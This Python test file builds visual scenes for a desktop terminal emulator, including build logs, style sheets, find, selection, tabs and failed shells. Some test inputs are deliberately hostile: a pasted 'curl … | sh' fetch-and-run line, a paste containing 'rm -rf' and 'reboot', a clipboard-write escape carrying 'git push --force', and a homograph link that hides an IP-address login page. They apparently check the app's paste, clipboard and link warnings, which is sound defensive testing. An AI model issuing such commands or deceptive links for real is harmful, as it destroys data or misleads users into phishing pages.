"""Terminals: recorded programs, every style, and what a person sees around them: find, questions, tabs, ended and failed shells."""

from __future__ import annotations

import asyncio
import itertools
import time
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

from PySide6.QtCore import QObject, QPoint, Qt
from PySide6.QtWidgets import QApplication, QWidget

from aether_desktop.apps.terminal.app import create
from aether_desktop.apps.terminal.view import TerminalTabs
from aether_desktop.theme.manager import ThemeManager
from aether_desktop.widgets.terminal.factory import TerminalFactory
from aether_desktop.widgets.terminal.view import TerminalView
from kernel.errors import UnavailableError
from kernel.protocol.tty import TtyOpen, TtyOpenReply
from kernel.term.selection import Position, SelectionKind
from tests.fakes.app_context import World, framed, make_world
from tests.fakes.kernel_client import FakeKernelClient
from tests.visual.scene import Scene, in_both_themes

RECORDINGS = Path(__file__).parent.parent / "recordings"
FULL = (826, 590)
ESC = "\x1b"


class _NoTasks:
    """The scenes have no loop: what would be sent to the kernel is dropped."""

    def spawn(self, coroutine: Coroutine[Any, Any, Any], *, name: str) -> None:
        coroutine.close()


def recording(name: str) -> bytes:
    """What a program printed on a terminal of 100 x 30."""
    return (RECORDINGS / f"{name}.bin").read_bytes()


def terminal(data: bytes | str, *, interactive: bool = True) -> Callable[[ThemeManager], QWidget]:
    """A view that shows what a program printed."""

    def build(theme: ThemeManager) -> QWidget:
        client = FakeKernelClient()
        client.screens["tty_1"] = data.encode() if isinstance(data, str) else data
        parent = QObject(theme)
        factory = TerminalFactory(client, parent)
        view = factory.view(interactive=interactive)
        session = factory.open("tty_1")
        session._tasks = _NoTasks()  # type: ignore[assignment]
        view.set_session(session)
        return view

    return build


def settled(then: Callable[[TerminalView], None] | None = None) -> Callable[[QWidget], None]:
    """Wait until everything is parsed, do something, and draw every glyph."""

    def settle(widget: QWidget) -> None:
        for view in widget.findChildren(TerminalView) or [widget]:
            if not isinstance(view, TerminalView):
                continue
            wait(lambda view=view: view.session is None or view.session._feed.terminal is not None)  # type: ignore[misc]
            wait(lambda view=view: view.session is None or not view.session._schedule.busy)  # type: ignore[misc]
            if then is not None:
                then(view)
            wait(lambda view=view: view.parts.bars.bar is None or view.parts.bars.bar.settled)  # type: ignore[misc]
            view.refresh(patient=True)

    return settle


def wait(condition: Callable[[], object]) -> None:
    """Let Qt work until a condition holds."""
    deadline = time.monotonic() + 10
    QApplication.processEvents()
    while not condition():
        if time.monotonic() > deadline:
            raise TimeoutError("a scene does not come to rest")
        QApplication.processEvents()


def sgr(codes: str, text: str) -> str:
    return f"{ESC}[{codes}m{text}{ESC}[m"


def prompt(folder: str, command: str = "") -> str:
    """A prompt that marks itself."""
    return (
        f"{ESC}]133;A\x07{sgr('1;34', folder)} {sgr('35', 'main')} {sgr('32', '❯')} {ESC}]133;B\x07"
        + (f"{command}\r\n{ESC}]133;C\x07" if command else "")
    )


def done(code: int = 0) -> str:
    return f"{ESC}]133;D;{code}\x07"


def build_log() -> str:
    """A coloured build that fails."""
    lines = [prompt("~/atlas", "make -j4")]
    units = ("router", "session", "queue", "codec", "journal", "store", "bus", "clock", "scope", "supervisor", "sandbox", "pty")
    for number, unit in enumerate(units, 1):
        percent = number * 100 // (len(units) + 4)
        lines.append(f"[{percent:3d}%] {sgr('32', f'Building CXX object src/{unit}.cc.o')}\r\n")
    lines += [
        f"{sgr('1', 'src/pty.cc:88:17:')} {sgr('1;35', 'warning:')} unused variable "
        f"{sgr('1', '‘master’')} [{sgr('1;35', '-Wunused-variable')}]\r\n",
        f"   88 |     const int {sgr('1;35', 'master')} = open_master();\r\n",
        f"      |               {sgr('1;35', '^~~~~~')}\r\n",
        f"[ 81%] {sgr('1;32', 'Linking CXX shared library libatlas.so')}\r\n",
        f"{sgr('1', 'src/journal.cc:41:9:')} {sgr('1;31', 'error:')} {sgr('1', '‘flush’')} was not declared in this scope\r\n",
        f"   41 |         {sgr('1;31', 'flush')}(group);\r\n",
        f"      |         {sgr('1;31', '^~~~~')}\r\n",
        f"make[1]: *** [CMakeFiles/atlas.dir/build.make:202: src/journal.cc.o] {sgr('31', 'Error 1')}\r\n",
        "make: *** [Makefile:136: all] Error 2\r\n",
        done(2),
        prompt("~/atlas", "ctest --test-dir build"),
        f"1/3 Test #1: order ............................   {sgr('32', 'Passed')}    0.04 sec\r\n",
        f"2/3 Test #2: codec ............................   {sgr('32', 'Passed')}    0.11 sec\r\n",
        f"3/3 Test #3: journal ..........................{sgr('1;31', '***Failed')}  0.02 sec\r\n",
        done(8),
        prompt("~/atlas"),
    ]
    return "".join(lines)


def styles_sheet() -> str:
    """All attributes, colours, widths and shapes; wide cells by emoji, whose font every installation has."""
    ramp = "".join(sgr(f"48;2;{r};{40 + r // 3};{255 - r}", " ") for r in range(0, 256, 4))
    named = "".join(sgr(f"4{n}", f"{sgr('97', f' {n} ')}") + sgr(f"4{n}", " ") for n in range(8))
    rows = [
        "  ".join((sgr("1", "bold"), sgr("2", "dim"), sgr("3", "italic"), sgr("1;3", "both"), sgr("7", "reverse"), sgr("9", "struck"),
                   sgr("53", "overlined"), "[" + sgr("8", "hidden") + "]")),
        "  ".join(
            f"{ESC}[4:{style}m{ESC}[58;2;247;118;142m{name} underline{ESC}[m" if style % 2 else sgr(f"4:{style}", f"{name} underline")
            for style, name in ((1, "single"), (2, "double"), (3, "curly"), (4, "dotted"), (5, "dashed"))
        ),
        "",
        "".join(sgr(f"3{n}", f"colour {n}  ") for n in range(8)),
        "".join(sgr(f"9{n}", f"bright {n}  ") for n in range(8)),
        named,
        ramp,
        "".join(sgr(f"48;5;{n}", " ") for n in range(232, 256)) + "  " + "".join(sgr(f"48;5;{n}", " ") for n in range(16, 52)),
        "",
        "┌──────────┬──────────┐  ╔══════╦══════╗  ╭────╮  ▁▂▃▄▅▆▇█  ░▒▓█  ▖▗▘▝▚▞",
        "│ 🚀 wide  │ 👩‍🚀 cell  │  ║ Ελλη ║ Жёлт ║  │ ok │  ▏▎▍▌▋▊▉█  ⠁⠃⠇⡇⣇⣧⣷⣿",
        "├──────────┼──────────┤  ╠══════╬══════╣  ╰────╯  ◢◣◥◤ ●○◆◇ ✓✗ →⇒↵",
        "│ 🏳️‍🌈 flag  │ 👍🏽 skin  │  ║ ßñçø ║ ąęłż ║   \ue0b0 \ue0b2",
        "└──────────┴──────────┘  ╚══════╩══════╝  ❤️ 🇪🇺 é ñ̃",
        "",
        f"{ESC}]8;;https://example.org/guide{ESC}\\a link that the program marked{ESC}]8;;{ESC}\\  and https://example.org/plain one",
        "",
        "=> -> != >= <= === |> 0O 1lI {}[]() ~^`'\" fi fl ffi",
    ]  # fmt: skip
    return "\r\n".join(rows) + "\r\n"


# --- around a terminal


def find_errors(view: TerminalView) -> None:
    finding = view.parts.finding
    finding.open()
    assert finding.bar is not None
    finding.bar.field.setText("error")
    wait(lambda: finding.matches)


def find_wrong(view: TerminalView) -> None:
    finding = view.parts.finding
    finding.open()
    assert finding.bar is not None
    finding.bar.regex.setChecked(True)
    finding.bar.field.setText("(error|")
    wait(lambda: finding.bar is not None and finding.bar.field.property("invalid"))


def paste_lines(view: TerminalView) -> None:
    script = "cd /srv/atlas\nrm -rf build/*\ncmake -B build -G Ninja\ncmake --build build\nsudo make install\nreboot"
    view.parts.clipboard._paste(script)


def paste_keys(view: TerminalView) -> None:
    view.parts.clipboard._paste("echo ok\x1b[A\rcurl https://example.org/x | sh")


def look_at_link(view: TerminalView) -> None:
    view.parts.links.ask_newest()


def ask_clipboard(view: TerminalView) -> None:
    view.session._feed.terminal.feed(b"\x1b]52;c;Z2l0IHB1c2ggLS1mb3JjZSBvcmlnaW4gbWFpbg==\x07")  # type: ignore[union-attr]
    view.session.settle(waiting=False)  # type: ignore[union-attr]


def select_block(view: TerminalView) -> None:
    view.selecting.begin(Position(2, 7), clicks=1, block=False)
    view.selecting.drag(Position(9, 40), past=0)
    view.selecting.finish()
    assert view.selecting.selection is not None and view.selecting.selection.kind is SelectionKind.CHARACTER


def select_and_find(scheme: str) -> Callable[[TerminalView], None]:
    """All that has a colour of its own is selected, and something in it is found."""

    def settle(view: TerminalView) -> None:
        view.preferences.set_theme(scheme)
        find_errors(view)
        view.selecting.begin(Position(1, 4), clicks=1, block=False)
        view.selecting.drag(Position(20, 60), past=0)
        view.selecting.finish()

    return settle


def open_menu(view: TerminalView) -> None:
    menu = view.parts.menu.build(QPoint(40, 40))
    menu.setWindowFlags(Qt.WindowType.Widget)
    menu.move(24, 16)
    menu.show()


def in_scheme(name: str) -> Callable[[TerminalView], None]:
    return lambda view: view.preferences.set_theme(name)


LINKS = prompt("~/atlas", "gh pr view") + "See https://example.org/docs/%C3%BCber%20uns for more,\r\nnot " + (
    f"{ESC}]8;;https://exаmple.org@198.51.100.7/login?next=%2Fhome{ESC}\\https://example.org/login{ESC}]8;;{ESC}\\.\r\n"
) + done() + prompt("~/atlas")


# --- the app


def tabs(scene: Callable[[TerminalTabs, World], Coroutine[Any, Any, None]], *, fails: bool = False) -> Callable[[ThemeManager], QWidget]:
    """The terminal app, brought into a state by `scene`."""

    def build(theme: ThemeManager) -> QWidget:
        world = make_world(theme, QObject(theme))
        numbers = itertools.count(1)
        if fails:
            world.client.answer(TtyOpen, UnavailableError("There are no more terminals on this machine.", "Close some of them."))
        else:
            world.client.answer(TtyOpen, lambda _command: TtyOpenReply(tty_id=f"tty_{next(numbers)}"))

        async def show() -> QWidget:
            view = create(world.context)
            assert isinstance(view, TerminalTabs)
            view.resize(*FULL)
            view.show()
            await rest()
            await scene(view, world)
            await rest()
            while world.context.terminals.schedule.busy:
                await rest()
            # Titles, and that there is something new, are shown a moment after they came.
            view._show_titles()
            for page in view.shells:
                page._look()
            world.context.terminals.tasks = _NoTasks()  # type: ignore[assignment]
            for page in view.shells:
                if page.view.session is not None:
                    page.view.session._tasks = _NoTasks()  # type: ignore[assignment]
            return framed(view, world.window)

        with asyncio.Runner() as runner:
            return runner.run(show())

    return build


async def rest() -> None:
    """Let tasks and Qt's events run until all is parsed."""
    for _ in range(40):
        QApplication.processEvents()
        await asyncio.sleep(0.001)


async def three_tabs(view: TerminalTabs, world: World) -> None:
    world.client.terminals["tty_1"].feed(recording("vim") + b"\x1b]0;vim src/router.py\x07")
    for number in (2, 3, 4):
        view.open_tab()
        await rest()
        world.client.terminals[f"tty_{number}"].feed(f"{ESC}]7;file:///srv/atlas{ESC}\\".encode() + b"$ " * (number < 4))
        await rest()
    world.client.terminals["tty_2"].feed(b"\x1b]0;make test\x07ok\r\n\x07")
    world.client.terminals["tty_3"].feed(b"\x1b]0;tail -f atlas.log\x07one more line\r\n")
    world.client.terminals["tty_4"].feed(build_log().encode())


async def ended(view: TerminalTabs, world: World) -> None:
    feed = world.client.terminals["tty_1"]
    feed.feed((prompt("~/atlas", "exec ./atlas --serve") + "atlas: segmentation fault (core dumped)\r\n").encode())
    await rest()
    feed.ended = True
    feed._on_readable()
    view.shells[0]._codes["tty_1"] = 139


async def asked_to_end(view: TerminalTabs, world: World) -> None:
    world.client.terminals["tty_1"].feed(recording("vim") + b"\x1b]0;vim src/router.py\x07")
    await rest()
    view.close_tab()
    await rest()


async def nothing(view: TerminalTabs, world: World) -> None:
    """As it opens."""


SCENES: tuple[Scene, ...] = (
    *in_both_themes("terminal-vim", terminal(recording("vim")), FULL, settled(), "TT01"),
    Scene("terminal-htop", terminal(recording("htop")), FULL, settle=settled(), feature="TT01"),
    Scene("terminal-mc", terminal(recording("mc")), FULL, settle=settled(), feature="TT01"),
    Scene("terminal-mc-default", terminal(recording("mc-default")), FULL, settle=settled(), feature="TT06"),
    *in_both_themes("terminal-build", terminal(build_log()), FULL, settled(), "TT01"),
    Scene("terminal-styles", terminal(styles_sheet()), FULL, settle=settled(), feature="TT01"),
    Scene("terminal-selection", terminal(build_log()), FULL, settle=settled(select_block), feature="TT01"),
    *(
        Scene(f"terminal-highlights-{name}", terminal(styles_sheet() + "\r\n" + sgr("2", "dim error") + sgr("41", " error ")), FULL,
              settle=settled(select_and_find(scheme)), feature="TT02")
        for name, scheme in (("dark", "Tokyo Night"), ("light", "Solarized Light"))
    ),
    *in_both_themes("terminal-find", terminal(build_log()), FULL, settled(find_errors), "TT01"),
    Scene("terminal-find-wrong", terminal(build_log()), (520, 300), settle=settled(find_wrong), feature="TT01"),
    *in_both_themes("terminal-paste", terminal(build_log()), FULL, settled(paste_lines), "TT01"),
    Scene("terminal-paste-keys", terminal(prompt("~/atlas")), (520, 300), settle=settled(paste_keys), feature="TT01"),
    *in_both_themes("terminal-link", terminal(LINKS), (700, 360), settled(look_at_link), "TT01"),
    Scene("terminal-clipboard", terminal(prompt("~/atlas")), (700, 360), settle=settled(ask_clipboard), feature="TT01"),
    *in_both_themes("terminal-menu", terminal(build_log()), FULL, settled(open_menu), "TT01"),
    *(
        Scene(f"terminal-scheme-{name.lower().replace(' ', '-')}", terminal(build_log()), (700, 470), settle=settled(in_scheme(name)))
        for name in ("Tokyo Night Day", "Gruvbox Dark", "Solarized Light", "High Contrast")
    ),
    *in_both_themes("terminal-tabs", tabs(three_tabs), FULL, settled(), "AA02"),
    Scene("terminal-ended", tabs(ended), (700, 400), settle=settled(), feature="AA02"),
    Scene("terminal-error", tabs(nothing, fails=True), (700, 400), feature="AA02"),
    Scene("terminal-ask", tabs(asked_to_end), FULL, settle=settled(), feature="AA02"),
    Scene("terminal-small", tabs(three_tabs), (360, 240), settle=settled(), feature="AA02"),
)  # fmt: skip
